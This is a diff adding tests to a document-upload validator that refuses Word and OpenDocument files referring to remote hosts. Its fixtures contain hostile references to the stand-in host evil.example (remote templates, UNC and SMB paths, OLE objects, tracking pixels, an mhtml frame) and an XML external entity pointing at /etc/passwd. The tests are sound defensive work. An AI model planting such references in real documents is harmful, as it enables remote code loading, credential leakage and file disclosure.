@@ -98,3 +98,92 @@ def test_an_archive_with_a_huge_table_of_contents_is_refused_unread() -> None:
 def test_a_file_without_content_is_called_empty() -> None:
     with pytest.raises(BadInput, match=r"laporan\.pdf is empty"):
         type_of(io.BytesIO(b""), "laporan.pdf")
+
+
+RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+XLINK = 'xmlns:x="http://www.w3.org/1999/xlink"'
+
+
+def referring(kind: str, target: str, mode: str = "External", part: str = "settings") -> bytes:
+    """A Word document one part of which refers to something."""
+    relation = (
+        f'<Relationships><Relationship Id="r1" Type="{RELATIONS}/{kind}" Target="{target}"'
+        f' TargetMode="{mode}"/></Relationships>'
+    )
+    types = f'<Types><Override ContentType="{OFFICE}wordprocessingml.document.main+xml"/></Types>'
+    return archive({"[Content_Types].xml": types, f"word/_rels/{part}.xml.rels": relation})
+
+
+def linking(element: str, address: str, part: str = "content.xml") -> bytes:
+    """An OpenDocument text one element of which refers to something."""
+    content = f'<o xmlns:t="urn:t" {XLINK}><t:{element} x:href="{address}"/></o>'
+    return archive({"mimetype": "application/vnd.oasis.opendocument.text", part: content})
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        referring("attachedTemplate", "https://evil.example/t.dotm"),
+        referring("attachedTemplate", "\\\\evil.example\\share\\t.dotm"),
+        referring("attachedTemplate", "file://evil.example/share/t.dotm"),
+        referring("attachedTemplate", "file:\\\\evil.example\\t.dotm"),
+        referring("oleObject", "http://evil.example/x", part="document"),
+        referring("image", "//evil.example/pixel.png", part="document"),
+        referring("frame", "mhtml:http://evil.example/x!y", part="webSettings"),
+        linking("template", "https://evil.example/t.ott", "meta.xml"),
+        linking("image", "http://evil.example/pixel.png"),
+        linking("object", "//evil.example/x.ods"),
+        linking("image", "smb://evil.example/x", "Object 1/content.xml"),
+    ],
+)
+def test_a_document_that_fetches_something_from_another_machine_is_refused_by_its_address(
+    content: bytes,
+) -> None:
+    name = "laporan.odt" if b"mimetype" in content else "laporan.docx"
+    with pytest.raises(BadInput, match=r"laporan.* fetches .*evil\.example"):
+        type_of(io.BytesIO(content), name)
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        referring("hyperlink", "https://kemhan.example/", part="document"),
+        referring("image", "media/image1.png", "Internal", part="document"),
+        referring("attachedTemplate", "file:///C:\\Users\\rina\\Templates\\surat.dotx"),
+        referring("attachedTemplate", "C:\\Templates\\surat.dotx"),
+        linking("a", "https://kemhan.example/"),
+        linking("image", "Pictures/1.png"),
+        linking("template", "../../Templates/surat.ott", "meta.xml"),
+        linking("template", "", "meta.xml"),
+        linking("object", "./Object 1"),
+        linking("image", "#frame1"),
+    ],
+)
+def test_links_to_follow_and_what_lies_in_the_document_or_on_its_authors_drive_are_let_in(
+    content: bytes,
+) -> None:
+    name = "laporan.odt" if b"mimetype" in content else "laporan.docx"
+    assert type_of(io.BytesIO(content), name)
+
+
+def test_a_document_whose_references_cannot_be_read_is_refused() -> None:
+    types = f'<Types><Override ContentType="{OFFICE}wordprocessingml.document.main+xml"/></Types>'
+    broken = archive({"[Content_Types].xml": types, "word/_rels/a.xml.rels": "<Relationships>"})
+    with pytest.raises(BadInput, match="not accepted"):
+        type_of(io.BytesIO(broken), "a.docx")
+
+
+def test_no_more_is_unpacked_than_any_document_has(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("processes.outside_parts.MOST_BYTES", 1_000)
+    content = linking("a", "https://kemhan.example/" + "x" * 2_000)
+    with pytest.raises(BadInput, match="not accepted"):
+        type_of(io.BytesIO(content), "a.odt")
+
+
+def test_entities_of_a_document_are_not_resolved() -> None:
+    text = (
+        '<!DOCTYPE o [<!ENTITY a "http://evil.example/"><!ENTITY b SYSTEM "file:///etc/passwd">]>'
+        f"<o {XLINK}><a>&a;&b;</a></o>"
+    )
+    parts = {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": text}
+    assert type_of(io.BytesIO(archive(parts)), "a.odt")
